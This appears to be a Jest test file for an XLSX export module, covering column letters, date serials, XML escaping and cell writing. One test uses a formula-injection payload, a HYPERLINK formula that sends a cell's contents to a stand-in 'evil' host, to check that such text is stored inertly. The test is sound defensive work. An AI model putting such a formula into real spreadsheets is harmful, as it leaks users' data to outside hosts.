import { money, text, date, count } from './sheet';
import { cellXml, columnLetters, spreadsheetDayOf, xmlTextOf } from './xlsx-sheet';

describe('columnLetters', () => {
  it.each([
    [0, 'A'],
    [25, 'Z'],
    [26, 'AA'],
    [51, 'AZ'],
    [52, 'BA'],
    [701, 'ZZ'],
    [702, 'AAA'],
  ])('column %i is %s', (index, letters) => expect(columnLetters(index)).toBe(letters));
});

describe('spreadsheetDayOf', () => {
  it.each([
    ['1900-03-01', 61],
    ['2022-05-03', 44_684],
    ['2024-02-29', 45_351],
  ])('%s is day %i', (day, serial) => expect(spreadsheetDayOf(day)).toBe(serial));

  it.each(['2023-02-29', '2022-04-31', '2022-13-01', '22-05-03', '2022-05-03T10:00', '1900-02-28'])(
    '%s is not a day it counts',
    (value) => expect(spreadsheetDayOf(value)).toBeNull(),
  );
});

describe('xmlTextOf', () => {
  it('escapes markup and drops characters XML cannot hold, keeping the rest', () => {
    expect(xmlTextOf('Tea & <b>"cake"</b>')).toBe('Tea &amp; &lt;b&gt;&quot;cake&quot;&lt;/b&gt;');
    expect(xmlTextOf('a\u0000b\u0008c\u001Fd\tE\nf\uFFFEg\uD800h')).toBe('abcd\tE\nfgh');
    expect(xmlTextOf('Café 😀 ☕')).toBe('Café 😀 ☕');
  });
});

describe('cellXml', () => {
  it('writes text that looks like a formula as an inline string, never a formula', () => {
    const xml = cellXml('=HYPERLINK("https://evil/?"&A2,"x")', text('Topic'), 'B2');
    expect(xml).toBe(
      '<c r="B2" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK(&quot;https://evil/?&quot;&amp;A2,&quot;x&quot;)</t></is></c>',
    );
    expect(xml).not.toContain('<f>');
  });

  it('writes money in pounds, counts as numbers, dates as days, and nothing for no value', () => {
    expect(cellXml(197_92, money('Cost'), 'C2')).toBe('<c r="C2" s="1"><v>197.92</v></c>');
    expect(cellXml(-12_50, money('Cost'), 'C3')).toBe('<c r="C3" s="1"><v>-12.5</v></c>');
    expect(cellXml(90, count('Minutes'), 'D2')).toBe('<c r="D2"><v>90</v></c>');
    expect(cellXml('2022-05-03', date('On'), 'E2')).toBe('<c r="E2" s="2"><v>44684</v></c>');
    expect(cellXml('not yet', date('On'), 'E3')).toBe(
      '<c r="E3" t="inlineStr"><is><t xml:space="preserve">not yet</t></is></c>',
    );
    expect(cellXml(null, text('Topic'), 'B2')).toBe('');
  });

  it('cuts text at the 32,767 characters a cell holds', () => {
    const xml = cellXml('x'.repeat(40_000), text('Topic'), 'B2');
    expect(xml.match(/x{100,}/)![0]).toHaveLength(32_767);
  });
});
